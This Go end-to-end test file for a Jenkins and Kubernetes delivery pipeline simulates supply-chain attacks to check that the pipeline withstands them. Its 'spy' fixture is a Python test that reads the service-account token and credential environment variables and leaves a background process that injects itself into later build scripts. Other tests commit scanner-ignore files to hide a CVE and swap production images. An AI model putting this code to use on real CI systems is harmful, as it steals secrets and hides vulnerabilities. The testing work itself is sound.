//go:build lab

package attacks

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"slipway.dev/slipway/tests/e2e/site"
)

// push commits files to the branch that is built, and takes them back when the test is over.
func push(t *testing.T, files map[string]string) {
	t.Helper()
	commit := func(message string) {
		_, err := prepared.Service.Commit(t.Context(), message)
		require.NoError(t, err)
		require.NoError(t, prepared.Service.Push(t.Context(), "Staging"))
	}
	for name, body := range files {
		require.NoError(t, prepared.Service.Write(name, body))
	}
	commit("An attack")
	t.Cleanup(func() {
		for name := range files {
			_ = os.Remove(filepath.Join(prepared.Service.Dir, name))
		}
	})
}

// play runs a Jenkinsfile of the repository in a folder of Jenkins to its end.
func play(t *testing.T, folder, script string, settings map[string]string) site.Run {
	t.Helper()
	name := "Jenkinsfile." + strings.ToLower(strings.NewReplacer("/", "-", "_", "-", "'", "").Replace(t.Name()))
	push(t, map[string]string{name: script})
	run, err := prepared.Run(t.Context(), site.Pipeline{Jenkinsfile: name, Settings: settings, Folder: folder})
	require.NoError(t, err)
	return run
}

// What a Jenkinsfile of a branch, which anybody who may push has written, can ask Jenkins for.
func TestAttacksByAJenkinsfile(t *testing.T) {
	for _, a := range Jenkinsfiles(prepared.Registry) {
		t.Run(a.Name, func(t *testing.T) {
			untouched(t, func() {
				run := play(t, a.Folder, a.Script, quick())
				assert.Contains(t, []string{"FAILURE", "ABORTED"}, run.Result())
				assert.Contains(t, run.Console, a.Says)
				assert.NotContains(t, run.Console, Inside)
				if a.Calls {
					assert.Regexp(t, Recorded, run.Record(), "the record says it")
				}
			})
			assert.Empty(t, kubectl(t, "get", "pods", "-n", "jenkins-prod", "-o", "name"), "a pod beside production's credentials")
		})
	}
}

// A script that was allowed once is not played again with other words by somebody who may only build.
func TestABuildIsReplayedWithAnotherScript(t *testing.T) {
	untouched(t, func() {
		file := filepath.Join(t.TempDir(), "Jenkinsfile")
		require.NoError(t, os.WriteFile(file, []byte("echo '=> played'\n"), 0o600))
		config := filepath.Join(t.TempDir(), "people.yaml")
		require.NoError(t, os.WriteFile(config, []byte(`jenkins:
  securityRealm: {local: {users: [{id: admin, password: x}, {id: ada, password: x}]}}
  authorizationStrategy:
    globalMatrix:
      entries:
      - user: {name: admin, permissions: [Overall/Administer]}
      - group: {name: authenticated, permissions: [Overall/Read, Job/Read, Job/Build, Job/Cancel]}
`), 0o600))
		play := func(arguments ...string) (string, error) {
			return site.Command{}.Run(t.Context(), filepath.Join(prepared.Root, "tests/runner/run"), append([]string{"--config", config,
				"--home", filepath.Join(filepath.Dir(config), "home"), "--job", "production", "--jenkinsfile", file}, arguments...)...)
		}
		out, err := play("--user", "ada")
		require.NoError(t, err)
		require.Contains(t, out, "=> played")
		out, err = play("--user", "ada", "--replay", "1")
		require.ErrorContains(t, err, "ada may not replay production")
		assert.NotContains(t, out, "=> played")
	})
}

// vulnerable is what the lab's advisories call a HIGH finding, as an image has it.
const vulnerable = "usr/lib/python3.11/site-packages/python_multipart-0.0.9.dist-info/METADATA"

// The repository ships settings of the scanner's, and code that stays behind when its tests are over.
func TestARepositoryOpensTheScan(t *testing.T) {
	untouched(t, func() {
		dockerfile, err := os.ReadFile(filepath.Join(prepared.Service.Dir, "Dockerfile"))
		require.NoError(t, err)
		t.Cleanup(func() { _ = prepared.Service.Write("Dockerfile", string(dockerfile)) })
		push(t, map[string]string{
			".trivyignore":      "CVE-2024-53981\n",
			".trivyignore.yaml": "vulnerabilities: [{id: CVE-2024-53981}]\n",
			"trivy.yaml":        "severity: [CRITICAL]\nexit-code: 0\npkg: {types: [os]}\n",
			"METADATA":          "Metadata-Version: 2.1\nName: python-multipart\nVersion: 0.0.9\n",
		})
		require.NoError(t, prepared.Service.Write("Dockerfile", strings.Replace(string(dockerfile), "COPY greeter",
			"COPY METADATA /"+vulnerable+"\nCOPY greeter", 1)))
		_, err = prepared.Service.Commit(t.Context(), "A finding that is to be overlooked")
		require.NoError(t, err)
		require.NoError(t, prepared.Service.Push(t.Context(), "Staging"))
		run, err := prepared.Run(t.Context(), site.Pipeline{Jenkinsfile: "Jenkinsfile"})
		require.NoError(t, err)
		assert.Equal(t, "FAILURE", run.Result())
		assert.Contains(t, run.Console, "CVE-2024-53981")
		assert.Contains(t, run.Record(), `"outcome":"findings"`)
	})
}

// spy looks for what the repository's code must not see, and leaves a process behind that writes into each script of the workspace.
const spy = `import os, subprocess
LOOK = 'echo "=> stolen [$(rev /var/run/secrets/kubernetes.io/serviceaccount/token 2>/dev/null | cut -c1-20)' \
       '$(env | grep -i -e passw -e token -e auth | grep -v =tests | rev)]"'
def test_nothing_to_steal():
    assert not os.path.exists('/var/run/secrets/kubernetes.io/serviceaccount/token')
    assert not [n for n in os.environ if 'PASSW' in n and os.environ[n] != 'tests'], os.environ
    loop = f"while :; do for f in $(find / -path '*durable-*' -name 'script.sh*' 2>/dev/null); do " \
           f"grep -q stolen $f || (echo; echo '{LOOK}') >> $f; done; done"
    subprocess.Popen(['sh', '-c', loop], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
`

// The repository's tests run in a pod that has nothing, and what they leave behind does not come into the pod that delivers.
func TestTheRepositorysTestsLeaveAProcessBehind(t *testing.T) {
	untouched(t, func() {
		push(t, map[string]string{"tests/app/test_spy.py": spy, "requirements.txt": "pytest\n"})
		run, err := prepared.Run(t.Context(), site.Pipeline{Jenkinsfile: "Jenkinsfile"})
		require.NoError(t, err)
		assert.Equal(t, "SUCCESS", run.Result(), run.Console)
		assert.Contains(t, run.Console, "1 passed")
		looks := regexp.MustCompile(`(?m)^=> stolen .*$`).FindAllString(run.Console, -1)
		assert.NotEmpty(t, looks, "it came into the next script of its own pod")
		for _, found := range looks {
			assert.Equal(t, "=> stolen []", found)
		}
	})
}

// requesting asks something of a run that waits, as this user.
func requesting(t *testing.T, job, user, request string) {
	t.Helper()
	_, err := site.Command{}.Run(t.Context(), filepath.Join(prepared.Root, "tests/runner/run"), "--home", prepared.Home(), "--job", job,
		"--user", user, "--request", request)
	require.NoError(t, err)
}

// While an approval waits: an answer without a user, another image under the approved tag, on stable and on the canary, a forged list.
// What is promoted in the end is the digest that was approved.
func TestAttacksWhileAnApprovalWaits(t *testing.T) {
	before := stable(t)
	const glass = "slipway.dev/break-glass"
	kubectl(t, "annotate", "-n", "prod", "service/"+site.App, glass+"=the load balancer burns")
	console := &waiting{}
	p := site.Pipeline{Jenkinsfile: "Jenkinsfile.prod", Job: "attacked", Settings: quick(), Out: console,
		Answers: []string{"migrate=yes", "promote=wait"}}
	_, wait, err := prepared.Start(t.Context(), p)
	require.NoError(t, err)
	asked := func(text string) {
		if !assert.Eventually(t, func() bool { return console.has(text) }, 4*time.Minute, 100*time.Millisecond) {
			t.Fatalf("not in the console: %s\n%s", text, console.text())
		}
	}
	asked("guard: service/" + site.App + " went past the guard, which no administrator has acknowledged: the load balancer burns")
	assert.Contains(t, kubectl(t, "get", "events", "-n", "prod", "--field-selector", "reason=BreakGlass",
		"-o", "jsonpath={.items[*].message}"), "the load balancer burns")
	kubectl(t, "annotate", "-n", "prod", "service/"+site.App, glass+"-")
	asked("Promote fastapi-postgres-app")
	canary := "deployment/" + site.App + "-canary"
	approved := kubectl(t, "get", canary, "-n", "prod", "-o", "jsonpath={.spec.template.spec.containers[0].image}")

	evil := approved[:strings.LastIndex(approved, "@")] + "@sha256:" + strings.Repeat("e", 64)
	untouched(t, func() {
		for _, name := range []string{"deployment/" + site.App, canary} {
			_, err := site.Kubectl(t.Context(), "--as", developer, "set", "image", "-n", "prod", name, "app="+evil)
			require.ErrorContains(t, err, notListed)
		}
		_, err = site.Kubectl(t.Context(), "--as", developer, "patch", "configmap/slipway-approved", "-n", "prod",
			"-p", `{"data":{"others":"x"}}`)
		require.ErrorContains(t, err, "may not write the list")
		requesting(t, p.Job, "anonymous", "input Promote proceedEmpty")
		asked("the answer names no user, and approves nothing")
	})
	moved, _, _ := strings.Cut(approved[strings.LastIndex(approved, "/")+1:], "@")
	_, moved, _ = strings.Cut(moved, ":")
	tag(t, moved, "day-0")
	requesting(t, p.Job, "admin", "input Promote proceed")
	run, err := wait()
	require.NoError(t, err)
	require.Equal(t, "SUCCESS", run.Result(), run.Console)
	assert.NotEqual(t, before, approved)
	assert.Equal(t, approved, stable(t))
	list := kubectl(t, "get", "configmap/slipway-approved", "-n", "prod", "-o", "jsonpath={.data}")
	assert.Contains(t, list, `\"what\":\"canary\"`)
	assert.Contains(t, list, `\"what\":\"promotion\"`)
	for _, noted := range []string{`"by":"admin"`, "the load balancer burns", "the answer names no user"} {
		assert.Contains(t, run.Record(), noted)
	}
	assert.Contains(t, kubectl(t, "get", "events", "-n", "prod", "-o", "jsonpath={.items[*].message}"), "set to "+approved)
}
